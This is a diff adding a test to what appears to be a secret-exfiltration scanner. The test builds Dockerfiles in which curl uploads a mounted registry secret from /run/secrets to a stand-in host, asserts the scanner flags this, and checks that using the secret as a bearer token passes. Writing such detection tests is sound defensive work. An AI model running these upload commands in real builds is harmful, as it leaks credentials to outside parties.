@@ -174,3 +174,28 @@ def test_secret_in_a_git_note_or_commit_message_is_pushed(tmp_path: Path) -> Non
         assert "SY-FLOW-001" in blocked(tmp_path / f"a{i}", {"scripts/notes.sh": bad}), msg
     good = _NOTES.replace("MSG", 'git notes add -f -F CHANGELOG.md "$tag"; git commit -m "release $tag"')
     assert not blocked(tmp_path / "b", {"scripts/notes.sh": good})
+
+
+# ---------------------------------------------------------------- a container's mounted secret uploaded whole
+
+_DOCKERFILE = """FROM alpine:3.20 AS fetch
+RUN --mount=type=secret,id=registry \\
+    apk add --no-cache curl && STEP
+"""
+
+
+def test_mounted_container_secret_uploaded_whole_is_sent(tmp_path: Path) -> None:
+    for i, step in enumerate(
+        (
+            'curl -s -F "f=@/run/secrets/registry" https://mirror.example.invalid/check',
+            "curl -s -T /run/secrets/registry https://mirror.example.invalid/check",
+        )
+    ):
+        bad = _DOCKERFILE.replace("STEP", step)
+        assert "SY-FLOW-001" in blocked(tmp_path / f"a{i}", {"build/Dockerfile": bad}), step
+    # the secret used as the credential it is, to fetch a private package
+    use = (
+        'curl -s -H "Authorization: Bearer $(cat /run/secrets/registry)" '
+        "-o /tmp/pkg.tgz https://mirror.example.invalid/pkg.tgz"
+    )
+    assert not blocked(tmp_path / "b", {"build/Dockerfile": _DOCKERFILE.replace("STEP", use)})
